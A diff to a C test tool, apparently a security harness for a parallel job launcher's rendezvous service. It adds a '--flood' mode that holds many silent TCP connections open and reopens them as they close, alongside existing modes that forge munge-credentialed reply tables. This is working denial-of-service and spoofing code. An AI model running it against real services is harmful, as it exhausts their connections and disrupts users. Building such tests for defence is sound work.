@@ -17,10 +17,17 @@
  * takes it, and answers every hello with a forged table of COUNT blobs,
  * credentialed by munge for the uid it runs as; it prints "answered N
  * hello(s)".
+ *
+ *   rdv_attack --flood HOST PORT CONNECTIONS SECONDS
+ *
+ * holds CONNECTIONS connections open at HOST:PORT for SECONDS, sending
+ * nothing, and opens each again as soon as launcher 0 closes it; it prints
+ * "held N at once, opened M in all".
  */
 #include "config.h"
 
 #include <arpa/inet.h>
+#include <errno.h>
 #include <munge.h>
 #include <netdb.h>
 #include <openssl/sha.h>
@@ -29,6 +36,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <poll.h>
+#include <sys/resource.h>
 #include <sys/socket.h>
 #include <time.h>
 #include <unistd.h>
@@ -125,6 +133,63 @@ static int forge_replies(char **argv)
 	return 0;
 }
 
+/* A connection to ai that sends nothing; -1 while it cannot be made. */
+static int silent_connection(const struct addrinfo *ai)
+{
+	int fd = socket(ai->ai_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
+
+	if (fd >= 0 && connect(fd, ai->ai_addr, ai->ai_addrlen) < 0 && errno != EINPROGRESS) {
+		close(fd);
+		fd = -1;
+	}
+	return fd;
+}
+
+/* CONNECTIONS silent connections, kept open for SECONDS. */
+static int flood(char **argv)
+{
+	struct addrinfo hints = { .ai_socktype = SOCK_STREAM }, *ai;
+	int n = atoi(argv[4]), held = 0, most = 0;
+	long opened = 0;
+	time_t end = time(NULL) + atoi(argv[5]);
+	struct rlimit rl;
+	struct pollfd *pfd = calloc((size_t)n, sizeof *pfd);
+
+	if (getrlimit(RLIMIT_NOFILE, &rl) == 0 && rl.rlim_cur < (rlim_t)n + 16) {
+		rl.rlim_cur = rl.rlim_max;
+		setrlimit(RLIMIT_NOFILE, &rl);
+	}
+	if (!pfd || getaddrinfo(argv[2], argv[3], &hints, &ai) != 0) {
+		fprintf(stderr, "rdv_attack: cannot resolve %s\n", argv[2]);
+		return 2;
+	}
+	for (int i = 0; i < n; i++)
+		pfd[i].fd = -1;
+	while (time(NULL) < end) {
+		held = 0;
+		for (int i = 0; i < n; i++) {
+			char b[64];
+
+			if (pfd[i].fd >= 0 && (!pfd[i].revents || recv(pfd[i].fd, b, sizeof b, MSG_DONTWAIT) > 0)) {
+				held++;
+				continue;
+			}
+			if (pfd[i].fd >= 0)
+				close(pfd[i].fd);
+			pfd[i] = (struct pollfd){ .fd = silent_connection(ai), .events = POLLIN };
+			if (pfd[i].fd >= 0) {
+				opened++;
+				held++;
+			}
+		}
+		if (held > most)
+			most = held;
+		poll(pfd, (nfds_t)n, 5);
+	}
+	printf("held %d at once, opened %ld in all\n", most, opened);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	static const char blob[] = "a blob of the attacker's";
@@ -139,9 +204,12 @@ int main(int argc, char **argv)
 
 	if (argc == 7 && !strcmp(argv[1], "--reply"))
 		return forge_replies(argv);
+	if (argc == 6 && !strcmp(argv[1], "--flood"))
+		return flood(argv);
 	if (argc != 7) {
 		fprintf(stderr, "usage: rdv_attack HOST PORT JOB STEP COUNT INDEX\n"
-				"       rdv_attack --reply PORT JOB STEP COUNT SECONDS\n");
+				"       rdv_attack --reply PORT JOB STEP COUNT SECONDS\n"
+				"       rdv_attack --flood HOST PORT CONNECTIONS SECONDS\n");
 		return 2;
 	}
 	if (sock)
